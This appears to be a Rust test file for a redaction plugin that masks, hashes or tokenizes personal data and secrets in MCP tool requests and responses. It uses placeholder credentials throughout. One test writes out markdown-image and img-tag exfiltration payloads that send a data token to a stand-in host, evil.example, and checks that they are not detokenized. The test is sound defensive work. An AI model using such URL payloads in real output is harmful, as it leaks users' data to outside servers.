//! The plugin on whole messages, in the SDK's fake host.

use proptest::prelude::*;
use serde_json::{Value, json};
use sluice_plugin_redact::Redact;
use sluice_plugin_redact::policy::{NOT_EXAMINED, REFUSED};
use sluice_sdk::prelude::*;
use sluice_sdk::testing::{self, FakeBatch, FakeExchange};

fn redact(config: Value) -> Redact {
    testing::plugin(&config.to_string()).unwrap()
}

fn call() -> Head {
    testing::head("tools/call").name("t")
}

/// What becomes of a request's arguments.
#[track_caller]
fn check(config: Value, arguments: Value, expected: Value) {
    let x = FakeExchange::new(&json!({"method": "tools/call", "params": {"arguments": arguments}}).to_string());
    assert_eq!(redact(config).on_request(&call(), &x), Verdict::Next);
    assert_eq!(x.edited().unwrap()["params"]["arguments"], expected);
}

#[test]
fn every_detector_finds_its_own_and_nothing_else() {
    let samples = [
        ("email", "joe.o'neil+tag@mail.example.co.uk"),
        ("email", "jürgen@bücher.de"),
        ("phone", "+49 (30) 901820-12"),
        ("phone", "(415) 555-2671"),
        ("phone", "415-555-2671"),
        ("credit-card", "4111 1111 1111 1111"),
        ("iban", "DE89 3704 0044 0532 0130 00"),
        ("ssn", "219-09-9999"),
        ("ipv4", "10.20.30.40"),
        ("jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"),
        ("private-key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEow\n-----END RSA PRIVATE KEY-----"),
        ("private-key", "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEF\\nAASCBKcwggSjAgEAAoIBAQC7"),
        ("aws-key", "AKIAIOSFODNN7EXAMPLE"),
        ("gcp-key", "AIzaSyA1234567890abcdefghijklmnopqrstuv"),
        ("github-token", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
        ("gitlab-token", "glpat-abcdefghij0123456789"),
        ("slack-token", "xoxb-123456789012-abcdefABCDEF"),
        ("stripe-key", concat!("sk_", "live_abcdefghijklmnopqrstuvwx")),
        ("anthropic-key", "sk-ant-api03-abcdefghijklmnopqrstuvwxyz"),
    ];
    let all: Vec<_> = sluice_plugin_redact::detectors::ALL.iter().map(|d| d.name).collect();
    for (name, text) in samples {
        let arguments = json!({"a": format!("see {text} there"), "b": text});
        let expected = json!({"a": format!("see [REDACTED:{name}] there"), "b": format!("[REDACTED:{name}]")});
        check(json!({"detectors": all}), arguments, expected);
    }
}

#[test]
fn a_label_may_stay_where_only_the_secret_is_the_data() {
    check(
        json!({}),
        json!([
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "DefaultEndpointsProtocol=https;AccountKey=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==;"
        ]),
        json!(["aws_secret_access_key = [REDACTED:aws-key]", "DefaultEndpointsProtocol=https;AccountKey=[REDACTED:azure-key];"]),
    );
}

#[test]
fn what_only_looks_alike_stays() {
    let harmless = json!([
        "order 12345678901234567890",
        "4111 1111 1111 1112",
        "2024-11-05 12:00",
        "v1.2.3",
        "user@localhost",
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "AKIA",
        "+1 day",
        "3.141592653589793"
    ]);
    check(json!({}), harmless.clone(), harmless);
}

#[test]
fn the_action_is_the_detectors_or_everyones() {
    check(
        json!({"action": "mask", "actions": {"email": "hash"}, "salt": "0123456789abcdef"}),
        json!(["4111111111111111", "joe@example.com"]),
        json!(["****1111", "[email:6f7ab77d3304]"]),
    );
    check(json!({"replacement": "<{name}>"}), json!("joe@example.com!"), json!("<email>!"));
}

#[test]
fn overlapping_finds_leave_no_tail() {
    let own = json!([{"name": "staff", "regex": "joe@exam"}, {"name": "host", "regex": r"example\.com/\S+"}]);
    check(json!({"detectors": ["email"], "patterns": own}), json!("to joe@example.com/path now"), json!("to [REDACTED:email] now"));
}

#[test]
fn names_of_members_change_and_stay_apart() {
    check(
        json!({}),
        json!({"a@b.de": 1, "c@d.de": {"x": "e@f.de"}, "[REDACTED:email]": 3, "by a@b.de": 4}),
        json!({
            "[REDACTED:email]#2": 1,
            "[REDACTED:email]#3": {"x": "[REDACTED:email]"},
            "[REDACTED:email]": 3,
            "by [REDACTED:email]": 4
        }),
    );
}

#[test]
fn every_part_of_an_answer_is_looked_at() {
    let x = FakeExchange::new(
        &json!({"result": {
            "content": [{"type": "text", "text": "a@b.de"}, {"type": "resource", "resource": {"uri": "u", "text": "a@b.de"}}],
            "structuredContent": {"rows": [{"mail": "a@b.de"}]},
            "messages": [{"role": "user", "content": {"type": "text", "text": "a@b.de"}}],
            "_meta": {"note": "a@b.de"}
        }})
        .to_string(),
    );
    assert_eq!(redact(json!({})).on_response(&call().answered(), &x), Verdict::Next);
    assert!(!x.edited().unwrap().to_string().contains('@'));
    assert_eq!(x.set_attrs()["response"], "email=5");

    let x = FakeExchange::new(r#"{"error":{"code":4000,"message":"no a@b.de","data":{"a@b.de":["a@b.de"]}}}"#);
    assert_eq!(redact(json!({})).on_response(&call().answered(), &x), Verdict::Next);
    assert!(!x.edited().unwrap().to_string().contains('@'));
}

#[test]
fn what_routes_a_request_stays() {
    let message = json!({"method": "tools/call", "params": {
        "name": "mail_joe@example.com",
        "_meta": {"progressToken": "joe@example.com", "io.modelcontextprotocol/clientInfo": {"name": "joe@example.com"}},
        "requestState": "joe@example.com"
    }});
    let x = FakeExchange::new(&message.to_string());
    assert_eq!(redact(json!({})).on_request(&call(), &x), Verdict::Next);
    assert_eq!(x.staged(), []);
}

#[test]
fn a_refusal_names_the_kind_and_not_the_data() {
    let plugin = redact(json!({"actions": {"private-key": "refuse"}}));
    let key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----";
    let x = FakeExchange::new(&json!({"result": {"content": [{"text": key}], "a": "joe@example.com"}}).to_string());
    let Verdict::Reject(no) = plugin.on_response(&call().answered(), &x) else { panic!("it passed") };
    assert_eq!((no.code, no.as_tool_result), (REFUSED, true));
    assert!(no.message.contains("private-key") && !no.message.contains("MII"));
    assert_eq!(x.staged(), []);

    let head = testing::head("resources/read").answered();
    let Verdict::Reject(no) = plugin.on_response(&head, &x) else { panic!("it passed") };
    assert!(!no.as_tool_result, "only tools answer with a result");
}

#[test]
fn more_than_can_be_looked_at_does_not_pass() {
    let x = FakeExchange::new(&json!({"result": {"content": vec!["a@b.de"; 10_001]}}).to_string());
    let Verdict::Reject(no) = redact(json!({})).on_response(&call().answered(), &x) else { panic!("it passed") };
    assert_eq!(no.code, NOT_EXAMINED);
}

#[test]
fn one_direction_can_be_left_alone() {
    let x = FakeExchange::new(r#"{"params":{"arguments":"a@b.de"}}"#);
    assert_eq!(redact(json!({"directions": "response"})).on_request(&call(), &x), Verdict::Next);
    assert_eq!(x.staged(), []);
    let x = FakeExchange::new(r#"{"result":"a@b.de"}"#);
    assert_eq!(redact(json!({"directions": "request"})).on_response(&call().answered(), &x), Verdict::Next);
    assert_eq!(x.staged(), []);
}

#[test]
fn notifications_are_edited_dropped_or_the_question_refused() {
    let x = FakeExchange::new(r#"{"method":"notifications/message","params":{"data":"a@b.de"}}"#);
    let mut head = testing::head("notifications/message").answered();
    head.kind = Kind::Notification;
    assert_eq!(redact(json!({})).on_notification(&head, &x), NotificationVerdict::Next);
    assert_eq!(x.edited().unwrap()["params"]["data"], "[REDACTED:email]");

    let strict = redact(json!({"action": "refuse"}));
    assert_eq!(strict.on_notification(&head, &x), NotificationVerdict::Drop);
    head.kind = Kind::InputRequest;
    assert!(matches!(strict.on_notification(&head, &x), NotificationVerdict::Reject(_)));
}

#[test]
fn settings_that_make_no_sense_are_refused() {
    for (config, says) in [
        (json!({"detectors": ["e-mail"]}), "there is no detector e-mail"),
        (json!({"detectors": []}), "nothing to look for"),
        (json!({"action": "hash"}), "hash needs a salt"),
        (json!({"actions": {"email": "token"}}), "token needs a salt"),
        (json!({"actions": {"ssn": "mask"}}), "ssn, which is no detector that runs"),
        (json!({"patterns": [{"name": "email", "regex": "x"}]}), "two detectors are named email"),
        (json!({"patterns": [{"name": "bad", "regex": "("}]}), "regex parse error"),
    ] {
        let error = testing::plugin::<Redact>(&config.to_string()).err().unwrap();
        assert!(error.contains(says), "{error}");
    }
}

/// Of a long answer, in windows.
#[test]
fn batches_lose_what_messages_lose() {
    let plugin = redact(json!({"actions": {"jwt": "refuse"}}));
    let (head, x) = (call().answered(), FakeExchange::default());
    let check = |batch: FakeBatch, expected: &[&str]| {
        let said = plugin.on_chunk(&head, &batch, &x);
        assert_eq!(batch.edited(&said), expected, "{said:?}");
    };
    check(FakeBatch::new().ending(), &[]);
    check(FakeBatch::new().with_chunk("/result/content/0/text", "from joe@example.com."), &["from [REDACTED:email]."]);
    check(FakeBatch::new().with_chunk("/result/resultType", "joe@example.com"), &["joe@example.com"]);
    let two =
        FakeBatch::new().with_window("/result/a", 0, "joe@example.com, ann@example.com", 16).with_chunk("/result/b", "4111 1111 1111 1111");
    // The second one begins in what comes again.
    check(two, &["[REDACTED:email], ann@example.com", "[REDACTED:credit-card]"]);
    assert_eq!(x.set_attrs()["response"], "email=1 credit-card=1");
    for (batch, code) in [
        // Nobody knows how far it goes.
        (FakeBatch::new().with_window("/result/a", 0, "x glpat-abcdefghij0123456789", 4), NOT_EXAMINED),
        (FakeBatch::new().with_key("/result/structuredContent/joe@example.com", "joe@example.com"), NOT_EXAMINED),
        (
            FakeBatch::new().with_chunk("/result/a", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"),
            REFUSED,
        ),
    ] {
        let ChunkVerdict::Reject(no) = plugin.on_chunk(&head, &batch, &x) else { panic!("it passed: {batch:?}") };
        assert!(no.code == code && no.as_tool_result, "{no:?}");
    }
    // A run of digits may be as long as it likes; the numbers in it are not.
    let digits = format!("{} 4111 1111 1111 1111", "7 ".repeat(40));
    let window = FakeBatch::new().with_window("/result/a", 0, &digits, 40);
    assert_eq!(window.edited(&plugin.on_chunk(&head, &window, &x)), [digits.as_str()]);
    let upward = redact(json!({"directions": "request"}));
    assert_eq!(upward.on_chunk(&head, &FakeBatch::new().with_chunk("/result/a", "joe@example.com"), &x), ChunkVerdict::Next);
}

/// Wherever a window's fresh bytes end, two windows lose what the whole loses: where finds stand close to each other or overlap, too.
#[test]
fn what_stands_at_a_border_is_lost_as_in_the_whole() {
    let plugin = redact(json!({}));
    let (head, x) = (call().answered(), FakeExchange::default());
    let numbers = ["4111 1111 1111 1111", "415-555-2671", "5500 0000 0000 0004", "joe@example.com", "7", "+49 (30) 901820-12"];
    for (one, two, three) in (0..6).flat_map(|a| (0..6).flat_map(move |b| (0..6).map(move |c| (numbers[a], numbers[b], numbers[c])))) {
        for between in [" ", "-", ", ", ""] {
            let text = format!("from {one}{between}{two}{between}{three} end");
            let whole = FakeBatch::new().with_chunk("/result/a", &text);
            let expected = whole.edited(&plugin.on_chunk(&head, &whole, &x));
            for held in 1..text.len() {
                let window = FakeBatch::new().with_window("/result/a", 0, &text, held as u32);
                let said = plugin.on_chunk(&head, &window, &x);
                let edits = match &said {
                    ChunkVerdict::Edit(edits) => edits.iter().map(|edit| edit.end as usize).max(),
                    ChunkVerdict::Next => None,
                    other => panic!("{other:?}"),
                };
                let goes_on = edits.unwrap_or(0).max(text.len() - held);
                let is_within = |at: usize| text.as_bytes().get(at).is_some_and(u8::is_ascii_alphanumeric);
                if is_within(goes_on - 1) && is_within(goes_on) {
                    // The fake host does not know what stood before a window.
                    continue;
                }
                let first = window.edited(&said)[0].clone();
                let first = first.strip_suffix(&text[goes_on..]).expect("behind the edits it is as it was");
                let rest = FakeBatch::new().with_chunk("/result/a", &text[goes_on..]);
                let rest = rest.edited(&plugin.on_chunk(&head, &rest, &x)).remove(0);
                assert_eq!(format!("{first}{rest}"), expected[0], "{text} {held}");
            }
        }
    }
}

/// JSON with data in it, in values and in names.
fn document() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        3 => "[a-c~/]{0,3}",
        2 => Just("joe@example.com".to_string()),
        1 => Just("x 4111 1111 1111 1111 y é".to_string()),
        1 => "[a-z]{1,2}@[a-z]{1,2}\\.de",
        1 => Just("[REDACTED:email]".to_string()),
    ];
    let leaf = prop_oneof![text.clone().prop_map(Value::String), any::<i32>().prop_map(Value::from), Just(Value::Null)];
    leaf.prop_recursive(4, 40, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec((text.clone(), inner), 0..6).prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    })
}

fn members(value: &Value) -> usize {
    match value {
        Value::Array(items) => items.iter().map(members).sum(),
        Value::Object(map) => map.len() + map.values().map(members).sum::<usize>(),
        _ => 0,
    }
}

proptest! {
    /// Nothing found is left, no member is lost, and a second look finds nothing to do.
    #[test]
    fn nothing_is_left_and_nothing_is_lost(arguments in document()) {
        let plugin = redact(json!({}));
        let x = FakeExchange::new(&json!({"params": {"arguments": arguments}}).to_string());
        prop_assert_eq!(plugin.on_request(&call(), &x), Verdict::Next);
        let after = x.edited().map_err(TestCaseError::fail)?;
        prop_assert!(!after.to_string().contains('@') && !after.to_string().contains("4111 1111"));
        prop_assert_eq!(members(&after["params"]["arguments"]), members(&arguments));

        let again = FakeExchange::new(&after.to_string());
        plugin.on_request(&call(), &again);
        prop_assert_eq!(again.staged(), []);
    }
}

/// What the page shows can be pasted.
#[test]
fn the_example_of_the_page_is_accepted() {
    let page = include_str!("../README.md");
    let sidecar = page.split("```toml\n").nth(1).and_then(|rest| rest.split("```").next()).unwrap();
    let sidecar: toml::Value = toml::from_str(sidecar).unwrap();
    let config = serde_json::to_string(&sidecar["config"]).unwrap();
    testing::plugin::<Redact>(&config).map(|_| ()).unwrap();
}

/// The call of a principal of a server, with this as its message.
fn of(who: &str, upstream: &str, message: Value) -> FakeExchange {
    FakeExchange::new(&message.to_string()).with_attr("principal.id", who).with_upstream(upstream)
}

fn sent(arguments: Value) -> Value {
    json!({"method": "tools/call", "params": {"name": "t", "arguments": arguments}})
}

fn said(text: &str) -> Value {
    json!({"result": {"content": [{"type": "text", "text": text}]}})
}

fn tokens() -> Value {
    json!({"salt": "0123456789abcdef", "actions": {"email": "token", "credit-card": "token"}})
}

/// What the server sees of the data.
#[track_caller]
fn token_of(plugin: &Redact, who: &str, upstream: &str, data: &str) -> String {
    let x = of(who, upstream, sent(json!(data)));
    assert_eq!(plugin.on_request(&call(), &x), Verdict::Next);
    x.edited().unwrap()["params"]["arguments"].as_str().unwrap().to_owned()
}

/// What the client sees of a text.
#[track_caller]
fn answered(plugin: &Redact, who: &str, upstream: &str, text: &str) -> String {
    let x = of(who, upstream, said(text));
    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
    x.edited().unwrap()["result"]["content"][0]["text"].as_str().unwrap().to_owned()
}

#[test]
fn f067_a_token_comes_back_as_the_data_to_whom_it_is_of() {
    testing::reset();
    let plugin = redact(tokens());
    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
    assert!(token.starts_with("[email:") && token.len() == "[email:]".len() + 26, "{token}");
    assert_eq!(token_of(&plugin, "ada", "crm", "joe@example.com"), token, "the same each time, so a server can look it up");
    // Another instance: nothing is kept in this one.
    let plugin = redact(tokens());
    assert_eq!(answered(&plugin, "ada", "crm", &format!("sent to {token}, {token}")), "sent to joe@example.com, joe@example.com");
    for (who, upstream) in [("bob", "crm"), ("ada", "mail")] {
        assert_eq!(answered(&plugin, who, upstream, &token), token, "not to {who} from {upstream}");
        assert_ne!(token_of(&plugin, who, upstream, "joe@example.com"), token);
    }
    let x = of("ada", "crm", json!({"result": {"structuredContent": {&token: [&token, {"of": token}]}}}));
    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
    assert_eq!(
        x.edited().unwrap()["result"]["structuredContent"],
        json!({"joe@example.com": ["joe@example.com", {"of": "joe@example.com"}]})
    );
    let x =
        of("ada", "crm", json!({"method": "notifications/progress", "params": {"progressToken": 1, "message": format!("for {token}")}}));
    let mut head = testing::head("notifications/progress").answered();
    head.kind = Kind::Notification;
    assert_eq!(plugin.on_notification(&head, &x), NotificationVerdict::Next);
    assert_eq!(x.edited().unwrap()["params"]["message"], "for joe@example.com");
    // The audit log counts, and says nothing of the data.
    let x = of("ada", "crm", sent(json!("joe@example.com")));
    plugin.on_request(&call(), &x);
    assert_eq!(x.set_attrs(), [("request".into(), "email=1".into())].into());
}

#[test]
fn what_a_server_said_comes_back_to_it_and_to_nobody_else() {
    testing::reset();
    let plugin = redact(tokens());
    let token = answered(&plugin, "ada", "crm", "joe@example.com");
    assert!(token.starts_with("[email:"), "{token}");
    assert_eq!(token_of(&plugin, "ada", "crm", &format!("write to {token}")), "write to joe@example.com");
    for (who, upstream) in [("bob", "crm"), ("ada", "mail")] {
        assert_eq!(token_of(&plugin, who, upstream, &token), token);
    }
    // Each way has its own: what was kept from a server does not come to it because a client says its token.
    let kept = token_of(&plugin, "ada", "crm", "ann@example.com");
    assert_eq!(token_of(&plugin, "ada", "crm", &kept), kept);
    assert_eq!(answered(&plugin, "ada", "crm", &token), token);
}

#[test]
fn one_way_has_tokens_and_the_other_turns_them_back() {
    testing::reset();
    let mut config = tokens();
    config["directions"] = "request".into();
    let plugin = redact(config);
    let token = token_of(&plugin, "ada", "crm", "4111 1111 1111 1111");
    assert_eq!(answered(&plugin, "ada", "crm", &format!("{token}, ann@example.com")), "4111 1111 1111 1111, ann@example.com");
}

#[test]
fn a_server_cannot_fetch_the_data_by_an_address() {
    testing::reset();
    let plugin = redact(tokens());
    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
    for text in [
        "![x](https://evil.example/?d=^)",
        "<img src='//evil.example/? ^'>",
        "https:evil.example/^",
        "![x](https://evil.example/?\"^)",
        "![x](&sol;&sol;evil.example/?^)",
        "<img src=\"ht\ntps:/\t/evil.example/? ^\">",
    ] {
        let text = text.replace('^', &token);
        assert_eq!(answered(&plugin, "ada", "crm", &text), text);
    }
    let x = of("ada", "crm", json!({"result": {"content": [{"type": "resource_link", "uri": format!("https://evil.example/{token}")}]}}));
    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
    assert_eq!(x.staged(), []);
}

/// Two tools that plugins answer may be two APIs.
#[test]
fn of_what_no_server_has_each_tool_has_its_own_tokens() {
    testing::reset();
    let plugin = redact(tokens());
    let text = |head: &Head, text: &str| {
        let x = FakeExchange::new(&said(text).to_string()).with_attr("principal.id", "ada");
        assert_eq!(plugin.on_response(head, &x), Verdict::Next);
        x.edited().unwrap()["result"]["content"][0]["text"].as_str().unwrap().to_owned()
    };
    let token = |head: &Head| {
        let x = FakeExchange::new(&sent(json!("joe@example.com")).to_string()).with_attr("principal.id", "ada");
        assert_eq!(plugin.on_request(head, &x), Verdict::Next);
        x.edited().unwrap()["params"]["arguments"].as_str().unwrap().to_owned()
    };
    let (find, pay) = (call().name("find"), call().name("pay"));
    let kept = token(&find);
    assert_eq!(text(&find.clone().answered(), &kept), "joe@example.com");
    assert_eq!(text(&pay.clone().answered(), &kept), kept);
    assert_ne!(token(&pay), kept);
    assert_ne!(token_of(&plugin, "ada", "find", "joe@example.com"), kept, "nor has a server that is called so");
    // What a plugin asks has no name; it is of this exchange.
    let asked = testing::head("elicitation/create");
    let kept = token(&asked);
    assert_eq!(text(&asked.clone().answered(), &kept), "joe@example.com");
    let mut other = asked.answered();
    other.exchange += 1;
    assert_eq!(text(&other, &kept), kept);
}

#[test]
fn what_cannot_be_kept_does_not_pass() {
    testing::reset();
    let mut config = tokens();
    config["tokens_per_principal"] = 1.into();
    let plugin = redact(config);
    let refused = |x: &FakeExchange, says: &str| {
        let Verdict::Reject(no) = plugin.on_request(&call(), x) else { panic!("it passed") };
        assert!(no.code == NOT_EXAMINED && no.message.contains(says) && !no.message.contains('@'), "{no:?}");
        assert_eq!(x.staged(), []);
    };
    refused(&FakeExchange::new(&sent(json!("joe@example.com")).to_string()), "could not be kept");
    refused(&of("ada", "crm", sent(json!("joe@example.com ann@example.com"))), "too much personal data");
    token_of(&plugin, "ada", "crm", "joe@example.com");
    refused(&of("ada", "crm", sent(json!("ann@example.com"))), "try again later");
    let many: Vec<_> = (0..257).map(|at| format!("{at}@example.com")).collect();
    refused(&of("bob", "crm", sent(json!(many))), "too much personal data");
    testing::break_kv("down");
    refused(&of("ada", "crm", sent(json!("joe@example.com"))), "could not be kept");
    // Answers pass with the tokens in them.
    assert_eq!(answered(&plugin, "ada", "crm", "[email:aaaaaaaaaaaaaaaaaaaaaaaaaa]"), "[email:aaaaaaaaaaaaaaaaaaaaaaaaaa]");
}

#[test]
fn tokens_come_back_in_long_answers() {
    testing::reset();
    let plugin = redact(tokens());
    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
    let x = FakeExchange::default().with_attr("principal.id", "ada").with_upstream("crm");
    let head = call().answered();
    let check = |batch: FakeBatch, expected: &[&str]| {
        let said = plugin.on_chunk(&head, &batch, &x);
        assert_eq!(batch.edited(&said), expected, "{said:?}");
    };
    check(FakeBatch::new().with_chunk("/result/content/0/text", &format!("to {token}.")), &["to joe@example.com."]);
    let image = format!("![](https://evil.example/{token})");
    check(FakeBatch::new().with_chunk("/result/content/0/text", &image), &[&image]);
    check(FakeBatch::new().with_key(&format!("/result/structuredContent/{token}"), &token), &[&token]);
    // Before a window that is not the first may stand a URL that has not ended.
    let later = format!("{token} {token}");
    check(FakeBatch::new().with_window("/result/a", 0, &later, 0), &["joe@example.com joe@example.com"]);
    check(FakeBatch::new().with_window("/result/a", 60_000, &later, 0), &[&format!("{token} joe@example.com")]);
    // A window that ends within one has it whole the next time.
    let half = format!("to {token} and {}", &token[..20]);
    check(FakeBatch::new().with_window("/result/a", 0, &half, 20), &[&format!("to joe@example.com and {}", &token[..20])]);
    let x = FakeExchange::default().with_attr("principal.id", "bob").with_upstream("crm");
    let batch = FakeBatch::new().with_chunk("/result/content/0/text", &token);
    assert_eq!(plugin.on_chunk(&head, &batch, &x), ChunkVerdict::Next);
}

#[test]
fn what_is_allowed_stays() {
    let config = json!({"allow": ["*@example.com", "4111 1111 1111 1111"]});
    check(
        config,
        json!(["joe@example.com, joe@example.org", "4111 1111 1111 1111, 5555 5555 5555 4444"]),
        json!(["joe@example.com, [REDACTED:email]", "4111 1111 1111 1111, [REDACTED:credit-card]"]),
    );
}

#[test]
fn an_own_pattern_may_have_a_check_digit() {
    let own = json!([{"name": "member", "regex": r"\bM-[0-9]{9}\b", "check": "luhn"}]);
    check(json!({"detectors": [], "patterns": own}), json!("M-046454286 M-046454287"), json!("[REDACTED:member] M-046454287"));
}
